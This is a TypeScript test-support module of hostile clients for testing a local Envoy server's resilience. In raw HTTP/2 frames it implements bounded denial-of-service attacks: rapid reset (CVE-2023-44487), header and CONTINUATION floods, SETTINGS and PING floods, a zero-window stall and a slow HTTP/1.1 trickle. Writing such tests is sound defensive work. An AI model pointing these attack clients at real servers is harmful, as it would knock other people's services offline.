// Hostile clients for the guard tests against a real Envoy: silent gRPC
// streams on node:http2 sessions bound to a chosen loopback source address
// (127.0.0.2 is another peer on the same host: Linux routes all of 127/8 to
// lo), and attacks in raw HTTP/2 frames (@xdskit/test-support) that no client
// library sends. Every attack is bounded in count and time by its caller.
import { once } from "node:events";
import * as http2 from "node:http2";
import * as net from "node:net";
import { runInNewContext } from "node:vm";
import { setFlagsFromString } from "node:v8";
import { FLAG, FRAME, frame, GRPC_HEADERS, headerBlock, rawH2 } from "@xdskit/test-support";

export const ATTACKER = "127.0.0.2";
export const ADS_PATH = "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources";

/** An HTTP/2 session from `localAddress`, connected. */
export async function session(url: string, options: { localAddress?: string; settings?: http2.Settings } = {}): Promise<http2.ClientHttp2Session> {
  const port = Number(new URL(url).port);
  const client = http2.connect(url, {
    ...(options.settings === undefined ? {} : { settings: options.settings }),
    createConnection: () => net.connect({ host: "127.0.0.1", port, localAddress: options.localAddress ?? "127.0.0.1" }),
  });
  client.on("error", () => {});
  await once(client, "connect");
  return client;
}

export interface SilentStream {
  readonly stream: http2.ClientHttp2Stream;
  /** grpc-status and grpc-message, or -1 when the stream closed without them; with when it ended. */
  readonly status: Promise<{ readonly code: number; readonly message: string; readonly at: number }>;
}

/** Opens a gRPC stream on `client` (ADS by default) that sends nothing. */
export function silentStream(client: http2.ClientHttp2Session, path = ADS_PATH): SilentStream {
  const stream = client.request({ ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" });
  stream.on("error", () => {});
  stream.on("data", () => {});
  const status = new Promise<{ code: number; message: string; at: number }>((resolve) => {
    const from = (headers: http2.IncomingHttpHeaders) => {
      const code = headers["grpc-status"];
      if (code !== undefined) resolve({ code: Number(code), message: decodeURIComponent(String(headers["grpc-message"] ?? "")), at: performance.now() });
    };
    stream.on("response", from);
    stream.on("trailers", from);
    stream.on("close", () => resolve({ code: -1, message: `closed, rst ${stream.rstCode}`, at: performance.now() }));
  });
  return { stream, status };
}

/** Heap in use after full collections (gc exposed at run time). */
export function heapAfterGc(): number {
  setFlagsFromString("--expose-gc");
  const gc = runInNewContext("gc") as () => void;
  gc();
  gc();
  return process.memoryUsage().heapUsed;
}

/** What an attack saw: how the server ended it. */
export interface AttackOutcome {
  /** The first GOAWAY's error code, when the server sent one. */
  readonly goawayCode: number | undefined;
  readonly goawayData: string;
  /** From the first attack byte to the connection closed. */
  readonly closedAfterMs: number;
}

const turn = () => new Promise((resolve) => setImmediate(resolve));

async function framesUntilClosed(
  port: number,
  localAddress: string,
  batches: number,
  batch: (index: number) => Buffer[],
  signal: AbortSignal | undefined,
): Promise<AttackOutcome> {
  const raw = await rawH2(port, localAddress);
  signal?.addEventListener("abort", () => raw.socket.destroy(), { once: true });
  const started = performance.now();
  for (let i = 0; i < batches && !raw.socket.destroyed; i += 1) {
    raw.send(...batch(i));
    await turn();
  }
  const closed = await raw.closed;
  return { ...closed, closedAfterMs: performance.now() - started };
}

/**
 * The HTTP/2 attacks of issue 16 as raw clients, each bounded (at most a few
 * thousand frames) and resolving once the server closed the connection (or
 * `signal` aborted, which closes it from this side).
 */
export const HTTP2_ATTACKS = {
  /** CVE-2023-44487: HEADERS then RST_STREAM, 5,000 times. */
  "rapid reset": (port: number, from: string, signal?: AbortSignal) => {
    const block = headerBlock(GRPC_HEADERS);
    return framesUntilClosed(port, from, 10, (b) =>
      Array.from({ length: 500 }, (_, i) => {
        const id = 1 + 2 * (b * 500 + i);
        return Buffer.concat([frame(FRAME.HEADERS, FLAG.END_HEADERS, id, block), frame(FRAME.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8]))]);
      }), signal,
    );
  },
  /** Streams with 200 header pairs (over node's 128), up to 3,000. */
  "header flood": (port: number, from: string, signal?: AbortSignal) => {
    const block = headerBlock([...GRPC_HEADERS, ...Array.from({ length: 200 }, (_, i) => [`x-flood-${i}`, "v"] as const)]);
    return framesUntilClosed(port, from, 60, (b) => Array.from({ length: 50 }, (_, i) => frame(FRAME.HEADERS, FLAG.END_HEADERS, 1 + 2 * (b * 50 + i), block)), signal);
  },
  /** Streams with 45 KB of headers (over the 32 KiB list size), up to 3,000. */
  "oversized headers": (port: number, from: string, signal?: AbortSignal) => {
    const block = headerBlock([...GRPC_HEADERS, ["x-big", "a".repeat(15_000)], ["x-big2", "b".repeat(15_000)], ["x-big3", "c".repeat(15_000)]]);
    const chunks: Buffer[] = [];
    for (let at = 0; at < block.length; at += 16_000) chunks.push(block.subarray(at, at + 16_000));
    return framesUntilClosed(port, from, 150, (b) =>
      Array.from({ length: 20 }, (_, i) =>
        Buffer.concat(
          chunks.map((chunk, n) =>
            frame(n === 0 ? FRAME.HEADERS : FRAME.CONTINUATION, n === chunks.length - 1 ? FLAG.END_HEADERS : 0, 1 + 2 * (b * 20 + i), chunk),
          ),
        ),
      ), signal,
    );
  },
  /** One header block that never ends: up to 10,000 CONTINUATION frames. */
  "CONTINUATION flood": (port: number, from: string, signal?: AbortSignal) => {
    const small = headerBlock([["x-c", "d"]]);
    return framesUntilClosed(port, from, 101, (b) =>
      b === 0 ? [frame(FRAME.HEADERS, 0, 1, headerBlock(GRPC_HEADERS))] : Array.from({ length: 100 }, () => frame(FRAME.CONTINUATION, 0, 1, small)), signal,
    );
  },
  /** 1,000 SETTINGS frames. */
  "SETTINGS flood": (port: number, from: string, signal?: AbortSignal) => {
    const settings = frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]));
    return framesUntilClosed(port, from, 10, () => Array.from({ length: 100 }, () => settings), signal);
  },
  /** 1,000 PING frames. */
  "PING flood": (port: number, from: string, signal?: AbortSignal) => {
    const ping = frame(FRAME.PING, 0, 0, Buffer.alloc(8));
    return framesUntilClosed(port, from, 10, () => Array.from({ length: 100 }, () => ping), signal);
  },
} as const;

/** A zero window forever: an ADS stream for `request` on a session whose window is 0 and that never reads. */
export async function zeroWindow(url: string, from: string, request: Uint8Array, signal?: AbortSignal): Promise<AttackOutcome> {
  const client = await session(url, { localAddress: from, settings: { initialWindowSize: 0 } });
  signal?.addEventListener("abort", () => client.destroy(), { once: true });
  const started = performance.now();
  let goaway: { code: number | undefined; data: string } = { code: undefined, data: "" };
  client.on("goaway", (code: number, _last: number, data?: Buffer) => {
    if (goaway.code === undefined) goaway = { code, data: data?.toString() ?? "" };
  });
  const stream = client.request({ ":method": "POST", ":path": ADS_PATH, "content-type": "application/grpc", te: "trailers" });
  stream.on("error", () => {});
  stream.pause();
  const message = Buffer.alloc(5 + request.length);
  message.writeUInt32BE(request.length, 1);
  message.set(request, 5);
  stream.write(message);
  // Not events.once: the session's 'error' (the GOAWAY's code) would reject it.
  if (!client.destroyed) await new Promise((resolve) => client.once("close", resolve));
  return { goawayCode: goaway.code, goawayData: goaway.data, closedAfterMs: performance.now() - started };
}

/** A slow HTTP/1.1 client: a REST request line, then one header byte every 100 ms until the server closes. */
export async function slowHttp1(port: number, from: string, signal?: AbortSignal): Promise<AttackOutcome & { readonly answer: string }> {
  const socket = net.connect({ host: "127.0.0.1", port, localAddress: from });
  signal?.addEventListener("abort", () => socket.destroy(), { once: true });
  socket.on("error", () => {});
  await once(socket, "connect");
  const started = performance.now();
  socket.write("POST /v3/discovery:clusters HTTP/1.1\r\nhost: x\r\n");
  const trickle = setInterval(() => socket.write("x"), 100);
  let answer = "";
  socket.on("data", (chunk: Buffer) => {
    answer += chunk.toString();
  });
  await new Promise((resolve) => socket.once("close", resolve));
  clearInterval(trickle);
  return { goawayCode: undefined, goawayData: "", closedAfterMs: performance.now() - started, answer: answer.split("\r\n")[0] ?? "" };
}
